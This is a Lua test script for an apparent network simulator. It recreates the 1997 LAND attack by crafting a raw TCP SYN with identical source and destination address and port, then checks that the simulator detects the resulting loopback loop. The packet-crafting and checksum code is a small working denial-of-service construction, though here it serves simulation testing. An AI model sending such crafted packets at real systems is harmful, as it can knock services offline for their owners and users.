-- expect: no process ran: the loop is inside the protocols, such as packets looping back to their sender (--trace shows them); IP datagrams sent and received in that time: monet
-- Run with --max-same-time 100000. The LAND attack (1997): a SYN whose
-- source is its destination, address and port, sent through a raw
-- socket to a listener. The listener answers itself, and its answers
-- answer themselves over loopback, which takes no time; 4.4BSD-derived
-- systems froze. The run stops and says where the loop is.
local lan = ethernet { name = "lan0" }
local monet = host { name = "monet", iface = { lan, "128.32.1.1/16" } }

-- The Internet checksum of a TCP segment from a to a (both 128.32.1.1).
local function cksum(seg)
  local sum = 0x8020 + 0x0101 + 0x8020 + 0x0101 + 6 + #seg
  if #seg % 2 == 1 then seg = seg .. "\0" end
  for i = 1, #seg, 2 do sum = sum + string.unpack(">I2", seg, i) end
  while sum > 0xffff do sum = (sum & 0xffff) + (sum >> 16) end
  return ~sum & 0xffff
end

monet:spawn("telnetd", function()
  local s = socket(AF_INET, SOCK_STREAM, 0)
  assert(bind(s, { family = AF_INET, port = 23 }))
  assert(listen(s, 5))
  accept(s)
end)
monet:spawn("land", function()
  sleep(1)
  local r = assert(socket(AF_INET, SOCK_RAW, IPPROTO_TCP))
  local seg = string.pack(">I2I2I4I4BBI2I2I2", 23, 23, 1000, 0, 5 << 4,
                          0x02, 8192, 0, 0)
  seg = seg:sub(1, 16) .. string.pack(">I2", cksum(seg)) .. seg:sub(19)
  assert(sendto(r, seg, 0, { family = AF_INET, addr = "128.32.1.1" }))
end)
run { stop = "10s" }
